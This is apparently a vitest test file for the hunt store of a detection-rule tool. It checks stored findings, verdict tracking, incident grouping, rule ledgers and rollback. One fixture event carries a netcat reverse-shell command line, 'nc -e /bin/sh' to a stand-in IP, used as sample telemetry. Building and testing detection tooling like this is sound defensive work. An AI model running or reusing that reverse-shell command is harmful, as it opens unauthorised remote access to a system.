import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { CaseFile } from "../../src/store/case-file.ts";
import type { Match } from "../../src/store/findings.ts";
import {
  finishHunt,
  huntTotals,
  interruptHunt,
  readHunts,
  readLedger,
  recordRule,
  type RuleOutcome,
  startHunt,
} from "../../src/store/hunts.ts";
import type { RuleRecord } from "../../src/store/rules.ts";
import { smallCase } from "./small-case.ts";

let folder: string;
let file: CaseFile;
beforeEach(async () => {
  folder = mkdtempSync(path.join(tmpdir(), "eqlite-"));
  file = await smallCase(path.join(folder, "a.case"), [
    {
      "@timestamp": "2026-01-01T10:00:00.000Z",
      "host.name": "web-1",
      "container.name": "shop",
      "user.name": "root",
      "process.name": "NC",
      "process.command_line": "nc -e /bin/sh 198.18.0.1 4444",
      "process.entity_id": "e1",
      "process.parent.entity_id": "e0",
    },
    {
      "@timestamp": "2026-01-01T10:00:02.000Z",
      "host.name": "web-1",
      "process.parent.entity_id": "e1",
      "destination.ip": "2001:db8::1",
      "destination.port": 443,
    },
    {
      "@timestamp": "2026-01-01T12:00:00.000Z",
      "host.name": "db-1",
      "process.name": "bash",
      "process.entity_id": "e1",
    },
    { "host.name": "web-1", "process.name": "late" },
  ]);
});
afterEach(() => {
  file.close();
  rmSync(folder, { recursive: true, force: true });
});

const actor = { analyst: "ann", at: "2026-02-01T00:00:00.000Z" };
const rule = (overrides: Partial<RuleRecord> = {}): RuleRecord => ({
  id: "r1",
  path: "pack/linux/r1.toml",
  hash: "h1",
  name: "Rule one",
  document: { severity: "high" },
  ...overrides,
});
const match = (...events: (bigint | null)[]): Match => ({ events, joinKeys: [], total: events.length });

function hunt(
  rules: readonly { rule: RuleRecord; matches?: readonly Match[]; outcome?: RuleOutcome }[],
  window: { from: bigint | null; to: bigint | null } = { from: null, to: null },
) {
  const started = startHunt(file, { actor, ...window, options: {} });
  const counts = rules.map(({ rule, matches = [], outcome }) =>
    recordRule(file, started, rule, {
      outcome: outcome ?? (matches.length > 0 ? "hit" : "none"),
      reason: null,
      ms: 1.5,
      sqlHash: "abc",
      details: {},
      matches,
    }),
  );
  finishHunt(file, started, actor);
  return counts.map(({ findings, fresh, unchanged, gone }) => ({
    ids: findings.map((finding) => finding.id),
    fresh,
    unchanged,
    gone,
  }));
}

const states = () => file.db.prepare("SELECT id, state, verdict, incident FROM finding ORDER BY id").raw().all();

describe("a hunt over a case", () => {
  it("stores a finding with its events, times and a summary of the first event that names a process", () => {
    hunt([{ rule: rule(), matches: [match(1n, null, 2n)] }]);
    const [finding] = file.rows({ sql: "SELECT time, end_time, total, state, summary FROM finding", parameters: [] });
    expect(finding?.slice(0, 4)).toEqual([1767261600000000000n, 1767261602000000000n, 3n, "new"]);
    expect(JSON.parse(finding?.[4] as string)).toEqual({
      host: "web-1",
      container: "shop",
      user: "root",
      process: "NC",
      commandLine: "nc -e /bin/sh 198.18.0.1 4444",
      destination: "[2001:db8::1]:443",
      entity: "e1",
      entities: ["e1"],
      parents: ["e0", "e1"],
    });
    expect(file.rows({ sql: "SELECT position, event FROM finding_event ORDER BY position", parameters: [] })).toEqual([
      [0n, 1n],
      [1n, null],
      [2n, 2n],
    ]);
  });

  it("keeps verdicts: what is found again is unchanged, what is not is gone, what comes back is unchanged", () => {
    expect(hunt([{ rule: rule(), matches: [match(1n), match(3n)] }])).toEqual([
      { ids: [1, 2], fresh: 2, unchanged: 0, gone: 0 },
    ]);
    file.db.exec("UPDATE finding SET verdict = 'true_positive' WHERE id = 2");
    expect(hunt([{ rule: rule(), matches: [match(1n)] }])).toEqual([{ ids: [1], fresh: 0, unchanged: 1, gone: 1 }]);
    expect(states()).toEqual([
      [1, "unchanged", "undetermined", 1],
      [2, "gone", "true_positive", null],
    ]);
    expect(hunt([{ rule: rule(), matches: [match(3n), match(4n)] }])).toEqual([
      { ids: [2, 3], fresh: 1, unchanged: 1, gone: 1 },
    ]);
    expect(states()).toEqual([
      [1, "gone", "undetermined", null],
      [2, "unchanged", "true_positive", 2],
      [3, "new", "undetermined", 3],
    ]);
  });

  it("judges gone only for rules that ran, over a window that covers the earlier one", () => {
    hunt([{ rule: rule(), matches: [match(1n)] }], { from: 10n, to: 20n });
    hunt([{ rule: rule({ id: "other" }) }]);
    hunt([{ rule: rule(), outcome: "error" }]);
    hunt([{ rule: rule() }], { from: 11n, to: 20n });
    hunt([{ rule: rule() }], { from: 10n, to: 19n });
    expect(states()).toEqual([[1, "new", "undetermined", 1]]);
    hunt([{ rule: rule() }], { from: 9n, to: null });
    expect(states()).toEqual([[1, "gone", "undetermined", null]]);
  });

  it("knows an edited or moved rule again, and keeps rules of one pack that share an id apart", () => {
    const twin = rule({ path: "pack/macos/r1.toml", hash: "h2" });
    expect(
      hunt([
        { rule: rule(), matches: [match(1n)] },
        { rule: twin, matches: [match(1n)] },
      ]),
    ).toEqual([
      { ids: [1], fresh: 1, unchanged: 0, gone: 0 },
      { ids: [2], fresh: 1, unchanged: 0, gone: 0 },
    ]);
    const edited = rule({ hash: "h3" });
    const moved = rule({ path: "elsewhere/macos/r1.toml", hash: "h2" });
    expect(
      hunt([
        { rule: edited, matches: [match(1n)] },
        { rule: moved, matches: [match(1n)] },
      ]),
    ).toEqual([
      { ids: [1], fresh: 0, unchanged: 1, gone: 0 },
      { ids: [2], fresh: 0, unchanged: 1, gone: 0 },
    ]);
  });

  it("knows a rule again that was recorded with the place of its pack on a machine, also when it was edited since", () => {
    const placed = [
      rule({ path: "/home/ann/rules/linux/r1.toml" }),
      rule({ id: "r2", path: "/home/ann/rules/linux/r2.toml" }),
    ];
    hunt(placed.map((each) => ({ rule: each, matches: [match(1n)] })));
    const keys = () => file.rows({ sql: "SELECT key FROM finding ORDER BY id", parameters: [] });
    const before = keys();
    expect(
      hunt([
        { rule: rule({ path: "rules/linux/r1.toml" }), matches: [match(1n)] },
        { rule: rule({ id: "r2", path: "rules/linux/r2.toml", hash: "edited" }), matches: [match(1n)] },
      ]),
    ).toEqual([
      { ids: [1], fresh: 0, unchanged: 1, gone: 0 },
      { ids: [2], fresh: 0, unchanged: 1, gone: 0 },
    ]);
    expect(keys()).toEqual(before);
  });

  it("keys a group by what its events share, so that it can grow", () => {
    const group = (events: bigint[]): Match => ({
      events,
      joinKeys: [{ field: "host.name", value: "web-1" }],
      total: events.length,
      grouped: true,
    });
    hunt([{ rule: rule(), matches: [group([1n])] }]);
    expect(hunt([{ rule: rule(), matches: [group([1n, 2n])] }])).toEqual([
      { ids: [1], fresh: 0, unchanged: 1, gone: 0 },
    ]);
    expect(file.rows({ sql: "SELECT event FROM finding_event ORDER BY position", parameters: [] })).toEqual([
      [1n],
      [2n],
    ]);
  });

  it("groups into incidents by event, by process and its parent on one host, and by nearness on one host and container", () => {
    const other = rule({ id: "r2", path: "r2.toml" });
    hunt([
      { rule: rule(), matches: [match(1n), match(3n)] },
      { rule: other, matches: [match(2n)] },
    ]);
    // 2 is event 3: the same entity id, but on another host. 3 is a connection of the process of 1.
    expect(states().map((row) => (row as unknown[])[3])).toEqual([1, 2, 1]);
  });

  it("keeps a ledger and counts it", () => {
    hunt([
      { rule: rule(), matches: [match(1n)] },
      { rule: rule({ id: "r2", name: "A rule" }), outcome: "blind" },
    ]);
    expect(
      readLedger(file, 1).map(({ ruleId, outcome, findings, fresh }) => ({ ruleId, outcome, findings, fresh })),
    ).toEqual([
      { ruleId: "r2", outcome: "blind", findings: 0, fresh: 0 },
      { ruleId: "r1", outcome: "hit", findings: 1, fresh: 1 },
    ]);
    expect(huntTotals(file, 1)).toEqual({
      outcomes: { hit: 1, none: 0, blind: 1, unsupported: 0, error: 0, skipped: 0 },
      fresh: 1,
      unchanged: 0,
      gone: 0,
    });
  });

  it("rolls a rule back whole when its matches fail half way", () => {
    const started = startHunt(file, { actor, from: null, to: null, options: {} });
    function* failing(): Generator<Match> {
      yield match(1n);
      throw new Error("the engine died");
    }
    expect(() =>
      recordRule(file, started, rule(), {
        outcome: "hit",
        reason: null,
        ms: 1,
        sqlHash: null,
        details: {},
        matches: failing(),
      }),
    ).toThrow("the engine died");
    expect(states()).toEqual([]);
    interruptHunt(file, started, actor);
    expect(readHunts(file)[0]?.status).toBe("interrupted");
  });

  it("calls a hunt whose process has died interrupted when the next one starts", () => {
    startHunt(file, { actor, from: null, to: null, options: {} });
    const host = (file.db.prepare("SELECT owner FROM hunt").pluck().get() as string).split("@")[1] ?? "";
    file.db.prepare("UPDATE hunt SET owner = ?").run(`2147483647@${host}`);
    hunt([]);
    expect(readHunts(file).map(({ id, status }) => ({ id, status }))).toEqual([
      { id: 2, status: "complete" },
      { id: 1, status: "interrupted" },
    ]);
  });
});
